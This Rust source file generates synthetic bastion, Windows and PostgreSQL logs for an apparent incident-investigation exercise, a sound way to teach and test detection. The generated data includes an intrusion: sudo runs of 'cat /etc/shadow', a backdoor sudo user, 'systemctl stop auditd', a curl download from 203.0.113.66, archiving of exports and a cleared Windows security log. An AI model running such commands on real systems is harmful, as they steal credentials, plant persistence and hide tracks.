//! What machines of the network log themselves: who signs in at the bastion, a Windows machine behind it, and the database.

use super::random::Random;
use super::story::*;
use super::{SampleFile, file, gzip};
use crate::base::time::{HOUR, MINUTE, SECOND, iso};
use serde_json::{Value, json};
use std::fmt::Write;

pub const FILES: usize = 3;

const GUESSER: &str = "203.0.113.91";
const WINDOWS: &str = "jump-1.corp.example.com";
/// Names that are guessed at, night for night.
const GUESSED: [&str; 8] = [
    "root", "admin", "ubuntu", "oracle", "test", "postgres", "git", "deploy",
];

pub fn make(index: usize) -> SampleFile {
    match index {
        0 => bastion(),
        1 => windows(),
        _ => database(),
    }
}

/// Messages of one file, to be put in the order of time.
struct Messages(Vec<(i64, String)>);

impl Messages {
    fn say(&mut self, at: i64, program: &str, text: &str) {
        self.0.push((
            at,
            format!("{} bastion-1 {program}: {text}", &iso(at)[..19].replace('Z', "")),
        ));
    }

    /// With a zone, as rsyslog writes ISO times.
    fn text(mut self) -> (String, usize) {
        self.0.sort();
        let count = self.0.len();
        let mut text = String::new();
        for (_, line) in self.0 {
            let (time, rest) = line.split_at(19);
            // Writing to a string has no way to fail.
            let _ = writeln!(text, "{time}+00:00{rest}");
        }
        (text, count)
    }
}

/// The bastion's auth.log: guesses every night, the office by day, and one night somebody who has a password.
fn bastion() -> SampleFile {
    let mut random = Random::new(0x6175_7468);
    let mut log = Messages(Vec::new());
    for day in 0..DAYS as u32 {
        let morning = at(FIRST_DAY + day, 8, 0, 0);
        for n in 0..random.within(3, 7) {
            let t = morning + n * HOUR + random.within(0, 3000) * SECOND;
            let (pid, port) = (random.within(900, 30_000), random.within(40_000, 61_000));
            log.say(t, &format!("sshd[{pid}]"), &format!("Accepted publickey for mara from {OFFICE} port {port} ssh2: ED25519 SHA256:mVPwvezndPv/ARoIadVY98vAC0g"));
            log.say(
                t,
                &format!("sshd[{pid}]"),
                "pam_unix(sshd:session): session opened for user mara(uid=1001) by (uid=0)",
            );
            let back = t + random.within(4, 40) * MINUTE;
            log.say(
                back,
                &format!("sshd[{pid}]"),
                "pam_unix(sshd:session): session closed for user mara",
            );
        }
        // The port was only open to all in one night, yet the load balancer's subnet is guessed at from inside now and then.
        if day == 2 {
            for n in 0..120 {
                let t = at(11, 1, 24, 40) + n * SECOND;
                let (pid, port) = (random.within(900, 30_000), random.within(40_000, 61_000));
                let name = random.pick(&GUESSED);
                let who = match name {
                    "root" | "deploy" => name.to_owned(),
                    name => format!("invalid user {name}"),
                };
                log.say(
                    t,
                    &format!("sshd[{pid}]"),
                    &format!("Failed password for {who} from {GUESSER} port {port} ssh2"),
                );
            }
            let came = at(11, 1, 27, 9);
            log.say(
                came,
                "sshd[4711]",
                &format!("Accepted password for deploy from {INTRUDER} port 51541 ssh2"),
            );
            log.say(
                came,
                "sshd[4711]",
                "pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)",
            );
            for (minute, command) in [
                (29, "/usr/bin/cat /etc/shadow"),
                (31, "/usr/sbin/useradd -m -G sudo backup-check"),
                (34, "/usr/bin/systemctl stop auditd"),
                (62, "/usr/bin/curl -sO https://203.0.113.66/agent"),
            ] {
                let t = at(11, 1, minute, 30);
                log.say(
                    t,
                    "sudo",
                    &format!("  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND={command}"),
                );
            }
            log.say(at(11, 1, 31, 31), "useradd[4802]", "new user: name=backup-check, UID=1003, GID=1003, home=/home/backup-check, shell=/bin/bash, from=/dev/pts/1");
            log.say(
                at(11, 1, 34, 31),
                "systemd[1]",
                "auditd.service: Deactivated successfully.",
            );
            log.say(
                at(11, 4, 43, 0),
                "sshd[4711]",
                "pam_unix(sshd:session): session closed for user deploy",
            );
        }
    }
    let (text, count) = log.text();
    file(
        "hosts/bastion-1/auth.log.gz".to_owned(),
        "syslog",
        count,
        gzip(text.as_bytes()),
    )
}

fn event(id: i64, number: i64, at: i64, data: &Value) -> String {
    let failed = id == 4625;
    // That a log was cleared is said by the service that keeps it.
    let provider = match id {
        1102 => "Microsoft-Windows-Eventlog",
        _ => "Microsoft-Windows-Security-Auditing",
    };
    let event = json!({"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": provider}},
            "EventID": id, "Version": 0, "Level": 0, "Task": 12544, "Opcode": 0,
            "Keywords": if failed { "0x8010000000000000" } else { "0x8020000000000000" },
            "TimeCreated": {"#attributes": {"SystemTime": iso(at)}},
            "EventRecordID": number, "Correlation": {},
            "Execution": {"#attributes": {"ProcessID": 692, "ThreadID": 744}},
            "Channel": "Security", "Computer": WINDOWS, "Security": null
        },
        "EventData": data
    }});
    format!("{event}\n")
}

/// Security events of a Windows machine that the bastion reaches: everyday's logons, and one from the bastion in the night.
fn windows() -> SampleFile {
    let mut random = Random::new(0x6576_7478);
    let mut events: Vec<(i64, i64, Value)> = Vec::new();
    let logon = |user: &str, kind: i64, from: &str, logon_id: &str| {
        json!({"SubjectUserName": "JUMP-1$", "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7", "TargetUserName": user, "TargetDomainName": "CORP",
               "TargetLogonId": logon_id, "LogonType": kind, "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate",
               "WorkstationName": "JUMP-1", "IpAddress": from, "IpPort": "0", "ProcessName": r"C:\Windows\System32\svchost.exe"})
    };
    for day in 0..DAYS as u32 {
        for hour in [8, 13] {
            let t = at(FIRST_DAY + day, hour, random.within(1, 50), 7);
            let id = format!("0x{}", random.hex(6));
            events.push((4624, t, logon("mara", 10, "10.20.0.23", &id)));
            events.push((4634, t + 2 * HOUR, json!({"TargetUserName": "mara", "TargetDomainName": "CORP", "TargetLogonId": id, "LogonType": 10})));
        }
    }
    for n in 0..9 {
        let mut failed = logon("Administrator", 10, "10.20.0.23", "0x0");
        if let Some(fields) = failed.as_object_mut() {
            fields.insert("Status".to_owned(), json!("0xc000006d"));
            fields.insert("SubStatus".to_owned(), json!("0xc000006a"));
        }
        events.push((4625, at(11, 1, 50, n * 6), failed));
    }
    let came = at(11, 1, 52, 11);
    events.push((4624, came, logon("Administrator", 10, "10.20.0.23", "0x7c41d2")));
    events.push((
        4672,
        came,
        json!({"SubjectUserName": "Administrator", "SubjectDomainName": "CORP", "SubjectLogonId": "0x7c41d2",
                                    "PrivilegeList": "SeDebugPrivilege\n\t\t\tSeBackupPrivilege"}),
    ));
    events.push((4688, came + 40 * SECOND, json!({"SubjectUserName": "Administrator", "SubjectDomainName": "CORP", "SubjectLogonId": "0x7c41d2",
        "NewProcessId": "0x1a2c", "NewProcessName": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "ParentProcessName": r"C:\Windows\System32\cmd.exe", "CommandLine": "powershell -c \"Compress-Archive C:\\Exports D:\\e.zip\""})));
    events.push((4720, came + 3 * MINUTE, json!({"TargetUserName": "svc-backup", "TargetDomainName": "JUMP-1", "TargetSid": "S-1-5-21-1-2-3-1009",
        "SubjectUserName": "Administrator", "SubjectDomainName": "CORP", "SubjectLogonId": "0x7c41d2"})));
    events.push((1102, came + 40 * MINUTE, json!({"SubjectUserName": "Administrator", "SubjectDomainName": "CORP", "SubjectLogonId": "0x7c41d2"})));
    events.sort_by_key(|e| e.1);
    let lines = events.iter().enumerate();
    let text: String = lines
        .map(|(n, (id, at, data))| event(*id, 88_000 + n as i64, *at, data))
        .collect();
    file(
        "hosts/jump-1/Security.jsonl".to_owned(),
        "windows-event",
        events.len(),
        text.into_bytes(),
    )
}

/// The shop's database: statements above half a second, a lock that waits, and guesses at a password in the night.
fn database() -> SampleFile {
    let mut random = Random::new(0x7067_6c6f);
    let apps: Vec<Host> = hosts()
        .into_iter()
        .filter(|h| h.name.starts_with("app"))
        .collect();
    let mut lines: Vec<(i64, String)> = Vec::new();
    let mut say = |at: i64, from: &str, who: &str, pid: i64, text: &str| {
        let time = iso(at)[..19].replace('T', " ");
        lines.push((at, format!("{time} UTC:{from}:{who}:[{pid}]:{text}")));
    };
    for hour in 0..DAYS as i64 * 24 {
        let start = at(FIRST_DAY, 0, 0, 0) + hour * HOUR;
        let many = if busy(start) {
            random.within(3, 9)
        } else {
            random.within(0, 2)
        };
        for _ in 0..many {
            let t = start + random.within(0, 3500) * SECOND;
            let host = random.pick(&apps.iter().collect::<Vec<_>>());
            let from = format!("{}({})", host.address, random.within(32_768, 61_000));
            let pid = random.within(2_000, 30_000);
            let (form, least, most) = random.pick(&[
                (
                    "SELECT * FROM orders WHERE customer_id = {n} ORDER BY placed_at DESC LIMIT 50",
                    510,
                    1_900,
                ),
                (
                    "SELECT sum(total) FROM orders WHERE placed_at > '2026-11-{n}'",
                    900,
                    6_200,
                ),
                (
                    "UPDATE stock SET reserved = reserved + {n} WHERE sku = 'LAMP-{n}'",
                    505,
                    900,
                ),
            ]);
            let statement = form.replace("{n}", &random.within(10, 29).to_string());
            let took = random.within(least, most);
            say(
                t,
                &from,
                "shop@shop",
                pid,
                &format!(
                    "LOG:  duration: {took}.{:03} ms  statement: {statement}",
                    random.within(0, 1000)
                ),
            );
        }
    }
    for n in 0..6 {
        let from = format!("10.20.0.23({})", 40_100 + n);
        say(
            at(11, 1, 58, n * 4),
            &from,
            "postgres@shop",
            9_100 + n,
            "FATAL:  password authentication failed for user \"postgres\"",
        );
    }
    let waits = at(12, 9, 12, 0);
    say(
        waits,
        "10.20.1.11(41200)",
        "shop@shop",
        7_301,
        "LOG:  process 7301 still waiting for ShareLock on transaction 81234 after 1000.123 ms",
    );
    say(
        waits + 3 * SECOND,
        "10.20.1.12(41210)",
        "shop@shop",
        7_302,
        "ERROR:  deadlock detected",
    );
    lines.sort();
    let count = lines.len();
    let text: String = lines.into_iter().map(|(_, line)| line + "\n").collect();
    file(
        "rds/shop-db/error/postgresql.log.2026-11.gz".to_owned(),
        "postgresql",
        count,
        gzip(text.as_bytes()),
    )
}
